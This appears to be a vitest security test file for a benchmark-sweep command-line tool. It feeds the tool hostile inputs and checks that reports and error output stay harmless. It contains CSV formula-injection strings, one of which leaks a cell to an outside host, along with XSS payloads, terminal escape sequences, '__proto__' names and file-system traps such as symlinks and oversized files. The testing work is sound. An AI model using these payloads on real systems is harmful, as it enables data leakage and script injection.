import { spawnSync } from 'node:child_process';
import { readFileSync, renameSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type MockProvider, startMockProvider } from '../../mock/server.ts';
import { sweepFile, temporaryFolder, turnsweep } from '../support/command-line.ts';
import { releaseOnDisk } from '../support/release-on-disk.ts';
import { filesBelow } from '../support/result-files.ts';
import { toJsonl } from '../support/return-release-builder.ts';

const hostileReply =
  '=HYPERLINK("http://x/?"&A1)</script><script>alert(1)</script><img src=x onerror=alert(1)>\u001b[2J\u202e\u009b31m';
const steering = /(?!\n)[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u;

let mock: MockProvider;
beforeAll(async () => {
  mock = await startMockProvider({
    scenario: {
      models: {
        judge: { reply: { judge: 'aliases' } },
        hostile: { reply: { text: hostileReply } },
        '*': { reply: { text: 'hammer' } },
      },
    },
  });
});
afterAll(() => mock.close());

type Rows = ReturnType<typeof releaseOnDisk>['rows'];

/** A folder with a release whose rows were changed, to sweep with these lanes. */
const workplace = (
  options: {
    change?: (rows: Rows) => Rows;
    lanes?: readonly Record<string, unknown>[];
    benchmark?: Record<string, unknown>;
    judge?: Record<string, unknown>;
  } = {},
) => {
  const folder = temporaryFolder();
  const directory = path.join(folder, 'release');
  const { rows } = releaseOnDisk(directory, { roots: 1, seed: 1 });
  const changed = options.change?.(rows) ?? rows;
  for (const name of ['tasks', 'inputs', 'answers'] as const) {
    writeFileSync(path.join(directory, `data/tasks/${name}.jsonl`), toJsonl(changed[name]));
  }
  const sweep = sweepFile(folder, {
    name: 'hostile',
    benchmark: { kind: 'return', release: directory, ...options.benchmark },
    models: (options.lanes ?? [{ id: 'lane' }]).map((lane) => ({
      model: 'm',
      family: 'Omni',
      modalities: ['V', 'A'],
      ...(lane.provider === undefined && { provider: 'openai-compatible', baseUrl: mock.url }),
      ...lane,
    })),
    judge: { provider: 'openai-compatible', model: 'judge', baseUrl: mock.url, ...options.judge },
  });
  const out = path.join(folder, 'out');
  return {
    folder,
    out,
    inRelease: (file: string) => path.join(directory, file),
    validate: () => turnsweep(['validate', sweep], { cwd: folder }),
    run: () => turnsweep(['run', sweep, '--out', out], { cwd: folder }),
    command: (...args: string[]) => turnsweep([...args, out], { cwd: folder }),
    csvCells: (): string[] =>
      Object.entries(filesBelow(path.join(out, 'report')))
        .filter(([name]) => name.endsWith('.csv'))
        .flatMap(([, text]) => (parse(text) as string[][]).flat()),
    page: () => readFileSync(path.join(out, 'report/index.html'), 'utf8'),
  };
};

describe('names that are members of every object', () => {
  const members = [
    ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__'],
  ];

  it('are names like any other, wherever they stand', async () => {
    /** Distinct values of a kind become such names, as many as there are; the rest stay. */
    const renaming = (values: readonly string[]) => {
      const names = new Map([...new Set(values)].map((value, index) => [value, members[index] ?? value]));
      return (value: string) => names.get(value)!;
    };
    const change = (rows: Rows): Rows => {
      const task = renaming(rows.tasks.map((row) => row.task_id));
      const pair = renaming(rows.tasks.map((row) => row.pair_id));
      const root = renaming(rows.tasks.map((row) => row.source_root_id));
      const view = renaming(rows.tasks.flatMap((row) => Object.values(row.views).map((one) => one.view_id)));
      const request = renaming(rows.inputs.map((row) => row.request_id));
      const viewOf = (one: Rows['tasks'][number]['views']['mcq']) => ({
        view_id: view(one.view_id),
        control_request_id: request(one.control_request_id),
        history_request_id: request(one.history_request_id),
        native_dependency_request_ids: one.native_dependency_request_ids.map(request),
      });
      return {
        tasks: rows.tasks.map((row) => ({
          ...row,
          task_id: task(row.task_id),
          pair_id: pair(row.pair_id),
          source_root_id: root(row.source_root_id),
          family: '__proto__',
          split: '__proto__',
          adapt_split: 'constructor',
          old_split: 'toString',
          views: { openqa: viewOf(row.views.openqa), mcq: viewOf(row.views.mcq) },
        })),
        inputs: rows.inputs.map((row) => ({
          ...row,
          request_id: request(row.request_id),
          operation: row.condition === 'AUX' ? '__proto__' : row.operation,
          messages: row.messages.map((message) =>
            message.role === 'user'
              ? message
              : {
                  ...message,
                  content_binding: {
                    ...message.content_binding,
                    request_id: request(message.content_binding.request_id),
                  },
                },
          ),
        })),
        answers: rows.answers.map((row) => ({ ...row, request_id: request(row.request_id) })),
      };
    };
    const lanes = (ids: readonly string[]) =>
      ids.map((id) => ({
        id,
        model: id === 'constructor' ? '__proto__' : 'm',
        displayName: `shown ${id.length}`,
      }));
    const [plain, hostile] = [
      workplace({ lanes: lanes(['plain-first', 'plainlane']) }),
      workplace({ lanes: lanes(['constructor', 'tostring1']), change }),
    ];
    const swept = await Promise.all([plain.run(), hostile.run()]);

    expect(swept).toMatchObject([
      { code: 0, stderr: '' },
      { code: 0, stderr: '' },
    ]);
    for (const table of ['models.csv', 'cells.csv', 'ladders.csv', 'medians.json']) {
      const [expected, found] = [plain, hostile].map(({ out }) =>
        readFileSync(path.join(out, 'report', table), 'utf8'),
      );
      expect(found).toBe(expected);
    }
    const groups = readFileSync(path.join(hostile.out, 'report/constructor/groups.csv'), 'utf8');
    expect(groups).toContain('\nadapt_split,constructor,mcq,8,');
    for (const command of ['status', 'score', 'report']) {
      expect((await hostile.command(command)).code, command).toBe(0);
    }
    expect((await hostile.command('export', '--to', 'return-release')).code).toBe(0);
  });
});

describe('replies, names and labels', () => {
  const displayNames = [
    '=HYPERLINK("http://x/?"&A1,"results")',
    '+1+1|cmd',
    '-1+1',
    '@SUM(A1)',
    '</script><script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "'; alert(1) //",
  ];

  it('are formulas in no table, markup on no page, and steer no terminal', async () => {
    const place = workplace({
      lanes: displayNames.map((displayName, index) => ({
        id: `lane-${index}`,
        model: 'hostile',
        displayName,
      })),
      change: (rows) => ({
        ...rows,
        tasks: rows.tasks.map((row) => ({ ...row, adapt_split: '=1+1', family: '<b>' })),
        answers: rows.answers.map((row) => ({
          ...row,
          scoring_question: `${row.scoring_question}${hostileReply}`,
        })),
      }),
    });

    const results = [await place.run()];
    for (const command of ['status', 'score', 'report']) results.push(await place.command(command));
    results.push(await place.command('export', '--to', 'csv'));

    for (const { code, stdout, stderr } of results) {
      expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
      expect(stdout).not.toMatch(steering);
    }
    const cells = place.csvCells();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
    for (const name of [...displayNames.slice(0, 4), '=1+1']) expect(cells).toContain(`'${name}`);
    for (const name of displayNames.slice(4, 6)) expect(cells).toContain(name);

    const page = place.page();
    const tags = new Set([...page.matchAll(/<\/?([a-z0-9!]*)/gi)].map(([, tag]) => tag!.toLowerCase()));
    const known = '!doctype html meta title style h1 h2 dl dt dd div table thead tbody tr th td';
    expect([...tags].filter((tag) => !known.split(' ').includes(tag))).toEqual([]);
    expect(page).not.toMatch(/<[^>]*\son\w+\s*=/i);
    expect(page).toContain('alert(1)');
  });

  it('with control or invisible characters in a label are refused with their place, and shown harmlessly', async () => {
    const labels = ['\u001b[2Jx', 'a\u202eb', 'two\nlines', '\u009b31m'];
    const place = workplace({
      change: (rows) => ({
        ...rows,
        tasks: rows.tasks.map((row, index) =>
          index < labels.length ? { ...row, [index % 2 === 0 ? 'split' : 'family']: labels[index] } : row,
        ),
      }),
    });

    const { code, stdout, stderr } = await place.validate();

    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr).not.toMatch(steering);
    expect(stderr.trim().split('\n')).toEqual(
      labels.map((_, index) =>
        expect.stringMatching(
          new RegExp(
            `^error: release/data/tasks/tasks\\.jsonl:${index + 1}: ${index % 2 === 0 ? 'split' : 'family'} .*: must not hold control or invisible characters$`,
          ),
        ),
      ),
    );
  });
});

describe('files that are traps', () => {
  const tasks = 'data/tasks/tasks.jsonl';
  const far = 3 * 1024 ** 3;
  const deep = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
  const outside = 'a link leads out of the release';
  const recorded = {
    benchmark: { verifyMedia: false },
    lanes: [{ id: 'lane', provider: 'recorded', recording: 'rec.jsonl' }],
  };
  type Place = ReturnType<typeof workplace>;
  const cases: [string, () => Place, (place: Place) => void, RegExp][] = [
    [
      'a folder that is a link out',
      workplace,
      (place) => {
        renameSync(place.inRelease('data/media'), path.join(place.folder, 'elsewhere'));
        symlinkSync('../../elsewhere', place.inRelease('data/media'));
      },
      new RegExp(outside),
    ],
    [
      'a link in a circle',
      workplace,
      (place) => {
        rmSync(place.inRelease(tasks));
        symlinkSync('tasks.jsonl', place.inRelease(tasks));
      },
      /tasks\.jsonl/,
    ],
    [
      'a device for a table',
      workplace,
      (place) => {
        rmSync(place.inRelease(tasks));
        symlinkSync('/dev/zero', place.inRelease(tasks));
      },
      new RegExp(outside),
    ],
    [
      'a pipe for a table, that nobody writes into',
      workplace,
      (place) => {
        rmSync(place.inRelease(tasks));
        expect(spawnSync('mkfifo', [place.inRelease(tasks)]).status).toBe(0);
      },
      /not a file/,
    ],
    [
      'a table of three gigabytes without a line end',
      workplace,
      (place) => truncateSync(place.inRelease(tasks), far),
      /line 9 is longer than \d+ bytes|line has \d+ characters/,
    ],
    [
      'a manifest of three gigabytes',
      () => workplace({ benchmark: { manifest: 'm.json' } }),
      (place) => {
        writeFileSync(place.inRelease('m.json'), '{');
        truncateSync(place.inRelease('m.json'), far);
      },
      /m\.json/,
    ],
    [
      'a list of media of three gigabytes',
      workplace,
      (place) => truncateSync(place.inRelease('data/media_sha256.txt'), far),
      /media_sha256\.txt/,
    ],
    [
      'a recording of one line without end',
      () => workplace(recorded),
      (place) => {
        writeFileSync(place.inRelease('rec.jsonl'), '');
        truncateSync(place.inRelease('rec.jsonl'), 200 * 1024 ** 2);
      },
      /rec\.jsonl|line 1 is longer/,
    ],
    [
      'a row that is nested without end',
      workplace,
      (place) => writeFileSync(place.inRelease(tasks), `${deep(1_000_000)}\n`),
      /tasks\.jsonl/,
    ],
    [
      'a sweep file of three gigabytes',
      workplace,
      (place) => truncateSync(path.join(place.folder, 'sweep.yaml'), far),
      /sweep\.yaml/,
    ],
    [
      'a sweep file that is nested without end',
      workplace,
      (place) => writeFileSync(path.join(place.folder, 'sweep.yaml'), `name: ${deep(100_000)}\n`),
      /sweep\.yaml/,
    ],
  ];

  it.each(cases)('%s is refused in words', async (_, place, set, says) => {
    const set_ = place();
    set(set_);

    const { code, stdout, stderr } = await set_.validate();

    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr).toMatch(says);
    expect(stderr).toMatch(/^(error: [^\n]+\n)+$/);
    expect(stderr).not.toMatch(/fault of turnsweep|Maximum call stack/);
    expect(stderr).not.toMatch(steering);
  });

  it('free members of a recording that are nested without end are refused or carried, never a crash', async () => {
    const place = workplace(recorded);
    const row = (id: string, more: string) =>
      `{"request_id":${JSON.stringify(id)},"status":"ok","raw_text":"x"${more}}\n`;
    writeFileSync(place.inRelease('rec.jsonl'), row('r', `,"__proto__":{"x":1},"more":${deep(100_000)}`));

    const { code, stderr } = await place.validate();
    const swept = await place.run();

    expect([code, stderr]).toEqual([0, '']);
    expect(swept.code).toBe(2);
    expect(swept.stderr).not.toMatch(/fault of turnsweep|Maximum call stack/);
  });
});
